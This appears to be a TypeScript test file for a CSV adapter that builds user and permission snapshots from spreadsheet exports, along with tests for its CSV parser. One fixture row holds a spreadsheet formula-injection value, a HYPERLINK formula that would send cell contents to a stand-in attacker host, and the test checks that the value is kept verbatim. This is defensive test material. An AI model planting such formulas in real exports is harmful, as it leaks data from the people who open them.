import { CsvSnapshotAdapter } from '../../src/access/adapters/csv-snapshot.adapter';
import { parseCsv } from '../../src/access/csv';
import { problemOf } from '../support/problems';

const adapter = new CsvSnapshotAdapter();
const ctx = { instance: 'flags.northwind.example', takenAt: '2026-06-30T23:00:00Z' };


const crlf = (lines: string[]) => lines.join('\r\n') + '\r\n';

// A spreadsheet export: BOM, CRLF, a name with a comma, a project with a comma, a name spanning
// two lines, and a name that a spreadsheet would run as a formula.
const FORMULA_NAME = '=HYPERLINK("http://evil.example/x?d="&A1,"Click me")';
const csv =
  '\uFEFF' +
  crlf([
    'email,name,role,project,environment,capabilities,last_seen_at,active',
    'Priya.Raman@Northwind.example,"Raman, Priya",Approver,core-banking,production,change.approve,2026-06-29T10:00:00Z,true',
    'priya.raman@northwind.example,,Developer,core-banking,,flag.write|change.apply,,',
    `mallory@northwind.example,"${FORMULA_NAME.replace(/"/g, '""')}",Viewer,,,,2026-05-01T08:00:00+02:00,no`,
    'ops-bot@northwind.example,"Deploy bot\r\n(release train)",Operator,"payments, EU",staging,flag.write; change.skip,,1',
    'li.wei@northwind.example,Li Wei,,,,,,0',
  ]);

describe('CsvSnapshotAdapter', () => {
  it('turns rows into principals (id = lowercased email) and grants, keeping cell text verbatim', () => {
    const snapshot = adapter.toSnapshot(csv, ctx);
    expect(snapshot.source).toBe('csv');
    expect(snapshot.takenAt).toBe('2026-06-30T23:00:00.000Z');
    expect(snapshot.principals).toEqual([
      { id: 'li.wei@northwind.example', email: 'li.wei@northwind.example', name: 'Li Wei', kind: 'user', active: false },
      { id: 'mallory@northwind.example', email: 'mallory@northwind.example', name: FORMULA_NAME, kind: 'user', active: false, lastSeenAt: '2026-05-01T06:00:00.000Z' },
      { id: 'ops-bot@northwind.example', email: 'ops-bot@northwind.example', name: 'Deploy bot\r\n(release train)', kind: 'user', active: true },
      { id: 'priya.raman@northwind.example', email: 'priya.raman@northwind.example', name: 'Raman, Priya', kind: 'user', active: true, lastSeenAt: '2026-06-29T10:00:00.000Z' },
    ]);
    expect(snapshot.grants).toEqual([
      { principal: 'mallory@northwind.example', role: 'Viewer', project: '*', environment: '*', capabilities: [], via: 'direct' },
      { principal: 'ops-bot@northwind.example', role: 'Operator', project: 'payments, EU', environment: 'staging', capabilities: ['flag.write', 'change.skip'], via: 'direct' },
      { principal: 'priya.raman@northwind.example', role: 'Developer', project: 'core-banking', environment: '*', capabilities: ['flag.write', 'change.apply'], via: 'direct' },
      { principal: 'priya.raman@northwind.example', role: 'Approver', project: 'core-banking', environment: 'production', capabilities: ['change.approve'], via: 'direct' },
    ]);
  });

  it('keeps the CSV text itself as raw', () => {
    expect(adapter.toSnapshot(csv, ctx).raw).toBe(csv);
  });

  it('accepts the columns in another order and LF line ends', () => {
    const text = 'capabilities,role,email\nflag.write,Developer,a@northwind.example\n';
    expect(adapter.toSnapshot(text, ctx).grants).toEqual([
      { principal: 'a@northwind.example', role: 'Developer', project: '*', environment: '*', capabilities: ['flag.write'], via: 'direct' },
    ]);
  });

  it('names the line and column of an unknown capability, counting the line break inside a quoted name', () => {
    const bad = csv + 'eve@northwind.example,Eve,Operator,,,flag.write;flag.delete,,\r\n';
    const problem = problemOf(() => adapter.toSnapshot(bad, ctx));
    expect(problem).toMatchObject({ index: 5, line: 8, field: 'capabilities' });
    expect(problem.message).toContain('"flag.delete" is not a capability');
  });

  it('names both lines when rows for the same person contradict each other', () => {
    const bad = crlf([
      'email,name,role,capabilities',
      'priya.raman@northwind.example,Priya Raman,Approver,change.approve',
      'PRIYA.RAMAN@northwind.example,P. Raman,Developer,flag.write',
    ]);
    const problem = problemOf(() => adapter.toSnapshot(bad, ctx));
    expect(problem).toMatchObject({ index: 1, line: 3, field: 'name' });
    expect(problem.message).toContain('on line 2');
  });

  it('names a bad email, a bad active value and a bad last_seen_at', () => {
    const header = 'email,role,capabilities,active,last_seen_at';
    expect(problemOf(() => adapter.toSnapshot(crlf([header, 'priya at northwind,Dev,flag.write,,']), ctx))).toMatchObject({ line: 2, field: 'email' });
    expect(problemOf(() => adapter.toSnapshot(crlf([header, 'a@northwind.example,Dev,flag.write,maybe,']), ctx))).toMatchObject({ line: 2, field: 'active' });
    const t = problemOf(() => adapter.toSnapshot(crlf([header, 'a@northwind.example,Dev,flag.write,,2026-06-29']), ctx));
    expect(t).toMatchObject({ line: 2, field: 'last_seen_at' });
    expect(t.message).toContain('RFC 3339');
  });

  it('rejects an unknown column by name and a missing required column', () => {
    const extra = problemOf(() => adapter.toSnapshot('email,role,capabilities,department\na@northwind.example,Dev,flag.write,Ops\n', ctx));
    expect(extra).toMatchObject({ line: 1, field: 'department' });
    const missing = problemOf(() => adapter.toSnapshot('email,role\na@northwind.example,Dev\n', ctx));
    expect(missing.message).toContain('capabilities');
  });

  it('rejects a row with a stray comma instead of shifting columns', () => {
    const problem = problemOf(() => adapter.toSnapshot('email,role,capabilities\na@northwind.example,Dev,ops,flag.write\n', ctx));
    expect(problem).toMatchObject({ line: 2 });
    expect(problem.message).toContain('4 fields but the header has 3');
  });

  it('rejects a grant column on a row without a role', () => {
    const problem = problemOf(() => adapter.toSnapshot('email,role,capabilities\na@northwind.example,,flag.write\n', ctx));
    expect(problem).toMatchObject({ line: 2, field: 'capabilities' });
  });

  it('asks for --taken-at (a CSV carries no time of its own)', () => {
    const problem = problemOf(() => adapter.toSnapshot(csv, { instance: 'x' }));
    expect(problem.field).toBe('takenAt');
    expect(problem.message).toContain('--taken-at');
  });

  it('refuses a parsed JSON document', () => {
    expect(() => adapter.toSnapshot({ principals: [] }, ctx)).toThrow('CSV text');
  });
});

describe('parseCsv', () => {
  it('handles quotes, escaped quotes, CRLF inside quotes, empty fields and blank lines', () => {
    expect(parseCsv('a,"b ""c""","d\r\ne",\r\n\r\n"",x\n')).toEqual([
      { line: 1, fields: ['a', 'b "c"', 'd\r\ne', ''] },
      { line: 4, fields: ['', 'x'] },
    ]);
  });

  it('names the line of an unterminated quote and of a quote inside an unquoted field', () => {
    expect(problemOf(() => parseCsv('a,b\n"open,c\n'))).toMatchObject({ line: 2 });
    expect(problemOf(() => parseCsv('a,b\nx,y"z\n')).message).toContain('quote inside an unquoted field');
    expect(problemOf(() => parseCsv('a,b\n"x"y,z\n')).message).toContain('after a closing quote');
  });
});
